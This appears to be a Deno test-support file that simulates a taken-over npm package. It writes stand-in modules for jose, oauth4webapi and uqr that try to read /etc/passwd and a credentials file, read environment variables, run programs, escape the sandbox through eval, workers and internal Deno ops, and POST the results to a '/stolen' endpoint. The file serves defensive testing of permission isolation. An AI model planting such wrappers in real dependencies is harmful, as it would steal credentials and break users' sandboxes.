// A package that has been taken over: it does what the genuine one does, and tries at everything else that it can reach.
import { denoRunFlags } from "./cli.ts";
import { writeImportMap } from "../../tools/find_std.ts";

/** What one attempt came to. */
export interface Attempt {
  what: string;
  /** Whether it got what it wanted. */
  succeeded: boolean;
  /** What it was told, or what it got. */
  met: string;
}

/** What a hostile module has told, by the only way out that it has: a request to the provider. */
export interface Report {
  /** The package in whose place it stands. */
  name: string;
  /** When it tried: as it was loaded, or as it was called. */
  when: "loaded" | "called";
  thread: "main" | "worker";
  attempts: Attempt[];
}

/** What it is after. */
export interface Loot {
  /** Origin of the provider. */
  provider: string;
  /** A file with secrets. */
  credentials: string;
  /** A directory that is nobody's business. */
  home: string;
  /** A listener on this machine that nobody should come to. */
  port: number;
  /** A file that is not there. */
  planted: string;
  /** A module of somebody else's. */
  elsewhere: string;
  /** A file of JSON that is nobody's business. */
  json: string;
}

/** A package of the program. */
interface Package {
  /** The module that it is. */
  file: string;
  /** Which of its functions the program waits for. */
  functions: string[];
}

const PACKAGES: Record<string, Package> = {
  jose: { file: "dist/webapi/index.js", functions: ["compactVerify", "importJWK"] },
  oauth4webapi: {
    file: "build/index.js",
    functions: ["genericTokenEndpointRequest", "deviceAuthorizationRequest", "revocationRequest"],
  },
  uqr: { file: "dist/index.mjs", functions: [] },
};

/**
 * Writes hostile modules and an import map that puts them in the place of all npm packages of the program.
 *
 * @returns Path of the import map.
 */
export async function writeHostileModules(directory: string, loot: Loot): Promise<string> {
  const standIns = denoRunFlags().some((flag) => flag === "--import-map");
  const genuine = await writeImportMap(standIns ? "import_map.json" : "compile_import_map.json", standIns);
  const base = new URL(genuine, "file:///");
  const { imports } = JSON.parse(await Deno.readTextFile(base)) as { imports: Record<string, string> };
  const absolute = Object.fromEntries(
    Object.entries(imports).map((
      [name, target],
    ) => [name, target.startsWith(".") ? new URL(target, base).href : target]),
  );
  for (const [name, { functions }] of Object.entries(PACKAGES)) {
    const path = `${directory}/hostile_${name}.mjs`;
    await Deno.writeTextFile(path, hostileModule(name, absolute[name]!, functions, loot), { mode: 0o644 });
    absolute[name] = `file://${path}`;
  }
  const map = `${directory}/hostile_map.json`;
  await Deno.writeTextFile(map, JSON.stringify({ imports: absolute }), { mode: 0o644 });
  return map;
}

/**
 * Takes the packages over where they are.
 *
 * @param placeOf The directory of a package.
 */
export async function takePackagesOver(placeOf: (name: string) => string, loot: Loot): Promise<void> {
  for (const [name, { file, functions }] of Object.entries(PACKAGES)) {
    const path = `${placeOf(name)}/${file}`;
    const genuine = path.replace(/(\.\w+)$/, ".genuine$1");
    await Deno.rename(path, genuine);
    await Deno.writeTextFile(path, hostileModule(name, `./${genuine.replace(/.*\//, "")}`, functions, loot));
  }
}

function hostileModule(name: string, genuine: string, functions: string[], loot: Loot): string {
  const wrapped = functions.map((each) => `
export async function ${each}(...args) {
  await tell("called");
  return await genuine.${each}(...args);
}`);
  return `export * from "${genuine}";
import * as genuine from "${genuine}";
const loot = ${JSON.stringify(loot)};
${ATTEMPTS}
const askedFetch = globalThis.fetch; // before anybody else takes it away
async function tell(when) {
  const thread = globalThis.WorkerGlobalScope !== undefined && globalThis instanceof WorkerGlobalScope ? "worker" : "main";
  const report = { name: "${name}", when, thread, attempts: await attempts() };
  await askedFetch(loot.provider + "/stolen", { method: "POST", body: JSON.stringify(report) }).then((r) => r.body?.cancel());
}
${wrapped.join("\n")}
await tell("loaded");
`;
}

/** JavaScript, so that nothing but the module itself is loaded. */
const ATTEMPTS = `
// Where it can be read what it is, it is not compiled. Without the whole of Deno some of them end the thread in which they are loaded.
const builtin = (name) => {
  if (Deno.execPath === undefined) throw new Error("Deno is not whole");
  return import("node:" + name);
};
const tries = {
  "read /etc/passwd": () => Deno.readTextFileSync("/etc/passwd").length,
  "read the credentials file": () => Deno.readTextFile(loot.credentials),
  "open the credentials file for writing": () => Deno.openSync(loot.credentials, { write: true }).close(),
  "list a directory": () => [...Deno.readDirSync(loot.home)].length,
  "read a variable": () => Deno.env.get("FIEF_CREDENTIALS"),
  "read all variables": () => Object.keys(Deno.env.toObject()).length,
  "set a variable": () => Deno.env.set("FIEF_PLANTED", "1"),
  "start a program": () => new Deno.Command("true").outputSync().code,
  "write a file": () => Deno.writeTextFileSync(loot.planted, "planted"),
  "make a directory": () => Deno.mkdirSync(loot.planted + ".d"),
  "connect to another port": () => Deno.connect({ hostname: "127.0.0.1", port: loot.port }).then((c) => c.close()),
  "fetch from another port": () => fetch("http://127.0.0.1:" + loot.port + "/", { signal: AbortSignal.timeout(2000) }),
  "fetch from the same port by another name": () => fetch(loot.provider.replace(/127\\.0\\.0\\.1|localhost/, "[::1]"), { signal: AbortSignal.timeout(2000) }),
  "listen": () => Deno.listen({ hostname: "127.0.0.1", port: 0 }).close(),
  "look up a name": () => Deno.resolveDns("example.com", "A"),
  "load a module from elsewhere": () => import("file://" + loot.elsewhere).then(() => "loaded"),
  "load a file of JSON": () => import("file://" + loot.json, { with: { type: "json" } }).then(() => "loaded"),
  "load a module from elsewhere by a text": () => new Function("url", "return import(url)")("file://" + loot.elsewhere).then(() => "loaded"),
  "load a module from elsewhere by another text": () => (0, eval)("import('file://" + loot.elsewhere + "')").then(() => "loaded"),
  "load a module from elsewhere by a module in a text": () =>
    import("data:text/javascript," + encodeURIComponent("export * from 'file://" + loot.elsewhere + "'")).then(() => "loaded"),
  "load a file of JSON by a text for a timer": () =>
    new Promise((resolve) => {
      globalThis.hostileResolve = resolve;
      setTimeout("import('file://" + loot.json + "', { with: { type: 'json' } }).then(globalThis.hostileResolve)", 0);
    }),
  "load a file of JSON by a text for a timer that goes on": () =>
    new Promise((resolve) => {
      globalThis.hostileResolve = resolve;
      const text = "import('file://" + loot.json + "', { with: { type: 'json' } }).then(globalThis.hostileResolve)";
      const timer = setInterval(text, 50);
      setTimeout(() => clearInterval(timer), 200);
    }),
  "what Deno hides: run a text": async () => {
    const text = "import('file://" + loot.json + "', { with: { type: 'json' } })";
    const [loading] = Deno[Deno.internal].core.evalContext(text, "file:///hostile.js");
    await loading;
  },
  "what Deno hides: a variable": () => {
    const ops = Deno[Deno.internal].core.createLazyLoader("ext:core/ops")();
    if (ops.op_get_env_no_permission_check("HOME") === null) throw new Error("not there");
  },
  "read the command line": () => {
    if (Deno.args.length === 0) throw new Error("not there");
  },
  "find out where we are": () => Deno.cwd(),
  "keep something for the next run": () => CacheStorage.prototype.open.name,
  "node:vm": () => {
    const url = JSON.stringify("file://" + loot.elsewhere);
    return globalThis.process.getBuiltinModule("node:vm").runInThisContext("import(" + url + ")").then(() => "loaded");
  },
  "require() of a file": () => {
    const require = globalThis.process.getBuiltinModule("node:module").createRequire("file://" + loot.elsewhere);
    return require(loot.json).secret;
  },
  "node:worker_threads": async () => {
    const { Worker } = globalThis.process.getBuiltinModule("node:worker_threads");
    const worker = new Worker(loot.elsewhere);
    await new Promise((resolve, reject) => worker.on("online", resolve).on("error", reject)).finally(() => worker.terminate());
  },
  "start a Worker from a file": () => {
    const worker = new Worker("file://" + loot.elsewhere, { type: "module" });
    return new Promise((resolve, reject) => {
      worker.onerror = (event) => { event.preventDefault(); reject(new Error(event.message)); };
      worker.onmessage = () => resolve("started");
    }).finally(() => worker.terminate());
  },
  "load a module from the network": () => import("http://127.0.0.1:" + loot.port + "/module.js").then(() => "loaded"),
  "ask for a permission": async () => {
    const { state } = await Deno.permissions.request({ name: "read" });
    if (state !== "granted") throw new Error("state " + state);
  },
  "start a Worker that may do all": () => inWorker({ deno: { permissions: { read: true, net: true, env: true, run: true } } }),
  "start a Worker that inherits": () => inWorker({}),
  "node:fs": async () => (await builtin("fs")).readFileSync(loot.credentials, "utf8").length,
  "node:child_process": async () => (await builtin("child_process")).execFileSync("true").length,
  "node:process, variables": async () => {
    const { env } = (await builtin("process")).default;
    if (env.FIEF_CREDENTIALS === undefined) throw new Error("not there");
  },
  "node:net": async () => {
    const { connect } = await builtin("net");
    await new Promise((resolve, reject) => {
      const socket = connect(loot.port, "127.0.0.1", resolve);
      socket.on("error", reject);
    }).catch((error) => { throw error; });
  },
  "what Deno hides: its own operations": () => {
    const { core } = Deno[Deno.internal];
    const { op_fs_read_file_text_sync, op_fs_read_file_sync } = core.ops;
    return (op_fs_read_file_text_sync ?? op_fs_read_file_sync)("/etc/passwd");
  },
};
function inWorker(options) {
  const program = "try { Deno.readTextFileSync('/etc/passwd'); postMessage('read') } catch (error) { postMessage(error.message) }";
  const worker = new Worker("data:text/javascript," + encodeURIComponent(program), { type: "module", ...options });
  return new Promise((resolve, reject) => {
    worker.onerror = (event) => { event.preventDefault(); reject(new Error(event.message)); };
    worker.onmessage = ({ data }) => data === "read" ? resolve(data) : reject(new Error(data));
  }).finally(() => worker.terminate());
}
async function attempts() {
  // What a thread has in common; hidden, so that the program goes on.
  Object.defineProperty(Object.prototype, "hostile", { value: "everywhere", configurable: true });
  const found = [];
  for (const [what, attempt] of Object.entries(tries)) {
    try {
      const late = new Promise((_, reject) => setTimeout(() => reject(new Error("no answer")), 1000));
      late.catch(() => {});
      const met = String(await Promise.race([attempt(), late])).slice(0, 60);
      found.push({ what, succeeded: true, met });
    } catch (error) {
      found.push({ what, succeeded: false, met: String(error?.message ?? error).slice(0, 120) });
    }
  }
  return found;
}`;
